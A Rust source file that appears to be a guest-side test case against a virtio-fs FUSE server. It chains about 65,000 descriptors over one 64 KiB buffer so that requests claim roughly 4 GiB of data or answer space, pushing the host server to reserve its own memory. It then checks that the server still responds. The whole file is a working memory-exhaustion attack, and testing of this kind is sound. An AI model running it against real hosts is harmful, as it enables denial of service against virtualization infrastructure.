//! Messages of up to 4 GiB, their buffers one piece of memory 65,535 times: what a
//! server reserves for them is not the guest's memory but its own.

use virtio_bindings::virtio_ring::{VRING_DESC_F_NEXT, VRING_DESC_F_WRITE};

use crate::Result;
use crate::fuse::{self, IN_HEADER, REQUESTS, ROOT, Share, message, opcode, words};
use crate::memory::{Memory, Piece};
use crate::out::say;
use crate::virtio::{Descriptor, Queue};

/// The most descriptors an indirect table has.
const MOST: usize = 65_535;
/// Bytes of the piece that all of them are.
const PIECE: usize = 64 << 10;
/// What of them carries data: one is the message's head, one is for the answer.
const DATA: usize = MOST - 2;
/// As many bytes as a 32-bit length can say.
const LENGTH: u32 = (DATA * PIECE) as u32;

pub fn run() -> Result<()> {
    let mut memory = Memory::new()?;
    let mut shares = fuse::shares(&mut memory)?;
    let (_, share) = shares.first_mut().ok_or("no share")?;
    let table = memory.take(MOST * 16)?;
    let (head, data, answer) = (memory.take(4096)?, memory.take(PIECE)?, memory.take(4096)?);
    say("attacking");

    let file = share.look_up(ROOT, "file")?.map_err(|error| format!("LOOKUP file: error {error}"))?;
    let opened = share.open(opcode::OPEN, file, 2)?;
    let handle = opened.map_err(|error| format!("OPEN file: error {error}"))?.to_le_bytes();
    let mut attack = Attack { share, table, head, data, answer };
    // What the guest sends.
    attack.send("IOCTL", opcode::IOCTL, file, &[&handle[..], &words(&[0, 1, 0, 0, LENGTH, 0])].concat())?;
    let write = [&handle[..], &[0; 8], &words(&[LENGTH, 0, 0, 0, 0, 0])].concat();
    attack.send("WRITE", opcode::WRITE, file, &write)?;
    let setxattr = [words(&[LENGTH, 0]), b"user.x\0".to_vec()].concat();
    attack.send("SETXATTR", opcode::SETXATTR, file, &setxattr)?;
    attack.send("BATCH_FORGET", opcode::BATCH_FORGET, 0, &words(&[LENGTH / 16, 0]))?;
    attack.send("LOOKUP", opcode::LOOKUP, ROOT, b"a")?;
    attack.send("SYMLINK", opcode::SYMLINK, ROOT, b"a\0b")?;
    attack.send("unknown", 4000, ROOT, &[])?;
    // What it wants to have.
    attack.ask("READ", opcode::READ, file, &fuse::read_body(u64::from_le_bytes(handle), u32::MAX))?;
    attack.ask(
        "GETXATTR",
        opcode::GETXATTR,
        file,
        &[words(&[u32::MAX, 0]), b"user.x\0".to_vec()].concat(),
    )?;
    attack.ask("LISTXATTR", opcode::LISTXATTR, file, &words(&[u32::MAX, 0]))?;
    let directory = attack.share.open(opcode::OPENDIR, ROOT, 0)?;
    let directory = directory.map_err(|error| format!("OPENDIR: error {error}"))?;
    attack.ask("READDIR", opcode::READDIR, ROOT, &fuse::read_body(directory, u32::MAX))?;
    // And it serves still.
    attack.share.look_up(ROOT, "file")?.map_err(|error| format!("LOOKUP file: error {error}"))?;
    say("finished");
    Ok(())
}

struct Attack<'a> {
    share: &'a mut Share,
    table: Piece,
    head: Piece,
    data: Piece,
    answer: Piece,
}

impl Attack<'_> {
    /// A message with 4 GiB behind its head.
    fn send(&mut self, name: &str, opcode: u32, node: u64, body: &[u8]) -> Result<()> {
        self.chain(name, opcode, node, body, false)
    }

    /// A message with room for 4 GiB of an answer.
    fn ask(&mut self, name: &str, opcode: u32, node: u64, body: &[u8]) -> Result<()> {
        self.chain(name, opcode, node, body, true)
    }

    fn chain(&mut self, name: &str, opcode: u32, node: u64, body: &[u8], answered: bool) -> Result<()> {
        // What it says of its length is a lie: the buffers are what the server reads from.
        let bytes = message(opcode, node, body, IN_HEADER + body.len());
        self.head.write(0, &bytes);
        self.answer.put(4, 0u32);
        let (next, write) = (VRING_DESC_F_NEXT as u16, VRING_DESC_F_WRITE as u16);
        let mut index = 0;
        let mut add = |piece: &Piece, len: usize, flags: u16| {
            index += 1;
            let next = index as u16;
            let descriptor = Descriptor { address: piece.physical, len: len as u32, flags, next };
            Queue::describe(&self.table, index - 1, descriptor);
        };
        add(&self.head, bytes.len(), next);
        if answered {
            add(&self.answer, fuse::OUT_HEADER, next | write);
        }
        for number in 0..DATA {
            let last = answered && number == DATA - 1;
            let flags = if answered { write } else { 0 } | if last { 0 } else { next };
            add(&self.data, PIECE, flags);
        }
        if !answered {
            add(&self.answer, self.answer.len, write);
        }
        self.share.queues[usize::from(REQUESTS)].refer(0, &self.table, MOST);
        let len = self.share.send(0)?;
        say(&format!("{name}: {len} bytes, error {}", -self.answer.get::<i32>(4)));
        Ok(())
    }
}
